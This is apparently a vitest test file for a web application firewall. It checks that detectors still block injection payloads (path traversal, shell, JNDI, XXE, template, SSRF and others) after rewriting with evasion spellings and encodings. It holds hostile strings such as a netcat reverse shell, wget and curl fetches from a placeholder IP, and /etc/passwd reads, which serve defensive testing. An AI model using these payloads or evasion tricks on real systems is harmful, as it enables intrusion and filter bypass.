import { expect, test } from 'vitest'
import { surer } from '../../../lib/waf/detect/finding.ts'
import { allDetectors, forValues, type Named } from './all-detectors.ts'
import { ask, refused } from './detector-table.ts'

const percent = (text: string): string =>
  text.replace(/[\s\S]/g, (char) => `%${char.charCodeAt(0).toString(16).padStart(2, '0')}`)
const marks = (text: string, encode: (char: string) => string): string => text.replace(/[^A-Za-z0-9 ]/g, encode)
const hex = (char: string, width: number): string => char.charCodeAt(0).toString(16).padStart(width, '0')

/** Encodings: whatever the language, the origin undoes them first. */
const encodings: readonly (readonly [name: string, encode: (text: string) => string])[] = [
  ['percent', (text) => marks(text, percent)],
  ['percent, all', percent],
  ['percent, upper case', (text) => marks(text, (char) => percent(char).toUpperCase())],
  ['percent, twice', (text) => percent(marks(text, percent)).replace(/%(?=[0-9a-f]{2}%?)/g, '%')],
  ['%u', (text) => marks(text, (char) => `%u${hex(char, 4)}`)],
  ['entities, decimal', (text) => marks(text, (char) => `&#${char.charCodeAt(0)};`)],
  ['entities, hex, zeros', (text) => marks(text, (char) => `&#x000${hex(char, 2)};`)],
  ['JSON escapes', (text) => marks(text, (char) => `\\u${hex(char, 4)}`)],
  ['base64', (text) => Buffer.from(text, 'latin1').toString('base64')],
  ['base64, URL, no padding', (text) => Buffer.from(text, 'latin1').toString('base64url')],
  ['UTF-16, little', (text) => text.replace(/[\s\S]/g, (char) => `${char}\0`)],
  ['UTF-16, big', (text) => text.replace(/[\s\S]/g, (char) => `\0${char}`)],
  [
    'full width',
    (text) =>
      text.replace(/[!-~]/g, (char) =>
        Buffer.from(String.fromCharCode(char.charCodeAt(0) + 0xfee0)).toString('latin1'),
      ),
  ],
  [
    'overlong',
    (text) =>
      marks(text, (char) => String.fromCharCode(0xc0 | (char.charCodeAt(0) >> 6), 0x80 | (char.charCodeAt(0) & 63))),
  ],
]

/** How each language itself lets the same thing be written, and attacks in it. */
interface Language {
  readonly name: string
  readonly attacks: readonly string[]
  readonly spellings: readonly ((text: string) => string)[]
}

const blanks = (by: string) => (text: string) => text.replaceAll(' ', by)
const flipCase = (text: string): string =>
  text.replace(/[a-z]/gi, (char, at: number) => (at % 2 ? char.toUpperCase() : char.toLowerCase()))

const languages: readonly Language[] = [
  {
    name: 'pathTraversal',
    attacks: [
      '../../../../etc/passwd',
      '..\\..\\..\\boot.ini',
      '/etc/passwd',
      '../../../windows/win.ini',
      'php://filter/convert.base64-encode/resource=x',
      'file:///etc/passwd',
      'C:\\boot.ini',
      '../../../../var/log/x.log',
    ],
    spellings: [
      flipCase,
      (text) => text.replaceAll('../', '..//'),
      (text) => text.replaceAll('../', '.././'),
      (text) => text.replaceAll('../', '..\\'),
      (text) => `${text}\0.png`,
      (text) => `x=${text}`,
    ],
  },
  {
    name: 'shell',
    attacks: [
      '; cat /etc/passwd',
      '| wget http://203.0.113.9/a',
      '&& curl http://203.0.113.9/a',
      '$(cat /etc/passwd)',
      '; ping -c 10 127.0.0.1',
      '|| ls -la /',
      '; nc -e /bin/sh 203.0.113.9 1',
      '`cat /etc/passwd`',
    ],
    spellings: [
      blanks('\t'),
      blanks('  '),
      blanks('${IFS}'),
      blanks('$IFS$9'),
      (text) => text.replace(/cat|wget|curl|ping|ls|nc/, (name) => `${name[0]}''${name.slice(1)}`),
      (text) => text.replace(/cat|wget|curl|ping|ls|nc/, (name) => `${name[0]}\\${name.slice(1)}`),
      (text) => text.replace(/cat|wget|curl|ping|ls|nc/, (name) => `${name[0]}"${name.slice(1)}"`),
      (text) => text.replace(/cat|wget|curl|ping|ls|nc/, (name) => `${name.slice(0, -1)}$@${name.at(-1)}`),
      (text) => `1${text}`,
      (text) => `x'${text} #`,
      (text) => text.replace(/^(?:;|\||&&|\|\|) /, '\n'),
    ],
  },
  {
    name: 'jndi',
    attacks: [
      '${jndi:ldap://203.0.113.9/a}',
      '${jndi:rmi://203.0.113.9/a}',
      '${jndi:dns://x.example.com}',
      'x ${jndi:ldap://203.0.113.9/a} y',
    ],
    spellings: [
      flipCase,
      (text) => text.replace('jndi', '${lower:j}ndi'),
      (text) => text.replace('jndi', 'j${::-n}di'),
      (text) => text.replace('jndi', '${env:X:-jn}${upper:d}i'),
      (text) => text.replace('jndi:', 'jndi${x:y:-:}'),
    ],
  },
  {
    name: 'xxe',
    attacks: [
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://203.0.113.9/">%b;]>',
      '<!DOCTYPE a SYSTEM "http://203.0.113.9/">',
    ],
    spellings: [
      blanks('\t'),
      blanks('\n'),
      blanks('\r\n  '),
      (text) => `<?xml version="1.0"?>\n${text}`,
      (text) => text.replaceAll('"', "'"),
      (text) => `<!-- x -->${text}`,
    ],
  },
  {
    name: 'template',
    attacks: [
      '{{7*7}}',
      '${7*7}',
      "{{''.__class__.__mro__}}",
      '<%= 7*7 %>',
      '#{7*7}',
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      '{{config.items()}}',
    ],
    spellings: [
      (text) => text.replace('7*7', ' 7 * 7 '),
      (text) => text.replace('7*7', '(7)*7'),
      (text) => text.replace('{{', '{{\n'),
      (text) => `a${text}b`,
      (text) => text.replace('7*7', '133*7'),
      (text) => text.replaceAll("'", '"'),
    ],
  },
  {
    name: 'code',
    attacks: [
      "system('id')",
      'eval($_POST["x"])',
      "require('child_process').exec('id')",
      "__import__('os').system('id')",
      '<?php phpinfo(); ?>',
      "shell_exec('id');",
    ],
    spellings: [
      flipPhp,
      (text) => text.replace('(', '/**/('),
      (text) => text.replace('(', ' ('),
      (text) => text.replace('(', '(\n'),
      (text) => text.replaceAll("'", '"'),
      (text) => `1;${text}//`,
    ],
  },
  {
    name: 'nosql',
    attacks: ['user[$ne]', '{"$gt":""}', '{"$where":"sleep(1)"}', "'; return true; var x='"],
    spellings: [(text) => text.replace(':', ' : '), (text) => text.replace('{', '{\n'), blanks('\t')],
  },
  {
    name: 'ldap',
    attacks: ['*)(uid=*', 'admin)(&)', 'x)(|(cn=*'],
    spellings: [flipCase, (text) => text.replace('(', ' ('), (text) => text.replace('(', '( ')],
  },
  {
    name: 'ssi',
    attacks: ['<!--#exec cmd="id" -->', '<!--#include virtual="/x" -->', '<esi:include src="http://203.0.113.9/"/>'],
    spellings: [flipCase, blanks('\t'), (text) => text.replace('#', ' #')],
  },
  {
    name: 'ssrf',
    attacks: [
      'http://127.0.0.1/x',
      'http://169.254.169.254/latest/',
      'http://2130706433/',
      'gopher://127.0.0.1:6379/_x',
      'http://[::1]/',
    ],
    spellings: [
      flipCase,
      (text) => text.replace('://', '://a@'),
      (text) => text.replace('://', ':\\\\'),
      (text) => text.replace('127.0.0.1', '0177.0.0.1'),
      (text) => text.replace('127.0.0.1', '127.1'),
      (text) => ` ${text}`,
    ],
  },
  {
    name: 'crlf',
    attacks: ['x\r\nSet-Cookie: a=b', 'x\r\n\r\n<html>', 'a@example.com\r\nBcc: b@example.com'],
    spellings: [flipCase, (text) => text.replaceAll('\r\n', '\n'), (text) => text.replace(': ', ':')],
  },
  {
    name: 'prototypePollution',
    attacks: ['__proto__[a]', '{"__proto__":{"a":1}}', 'constructor[prototype][a]'],
    spellings: [(text) => text.replace(':', ' : '), (text) => text.replace('{', '{ ')],
  },
  {
    name: 'deserialise',
    attacks: [
      'O:8:"stdClass":0:{}',
      "!!python/object/apply:os.system ['id']",
      '{"$type":"System.IO.FileInfo, System.IO"}',
    ],
    spellings: [(text) => `x=${text}`, (text) => `--- ${text}`],
  },
]

/** PHP's and cmd's names have no case; Node's and Python's have. */
function flipPhp(text: string): string {
  return text.startsWith('require') || text.startsWith('__') || text.includes('$_') ? text : flipCase(text)
}

/** Whether any detector refuses: an evasion that another language catches has not got through. */
function stopped(value: string): boolean {
  let found = forValues.reduce<ReturnType<typeof ask>>(
    (best, { detector, needs }) => surer(best, ask(detector, needs, value)),
    undefined,
  )
  found ??= undefined
  return (found?.confidence ?? 0) >= refused
}

const own = (name: string): Named => allDetectors.find((row) => row.name === name) as Named

test('at least 98 in 100 of the rewritten attacks are still stopped', () => {
  let ran = 0
  const through: string[] = []
  for (const { name, attacks, spellings } of languages) {
    const { detector, needs } = own(name)
    for (const attack of attacks) {
      expect(ask(detector, needs, attack)?.confidence, attack).toBeGreaterThanOrEqual(refused)
      for (const spelling of spellings) {
        for (const encode of [(text: string): string => text, ...encodings.map(([, encoding]) => encoding)]) {
          ran++
          const value = encode(spelling(attack))
          if (!stopped(value)) through.push(`${name}: ${JSON.stringify(value)}`)
        }
      }
    }
  }
  expect(ran).toBe(4995)
  // The list is what a failure shows.
  expect(through.length > ran * 0.02 ? through.slice(0, 200) : []).toEqual([])
})
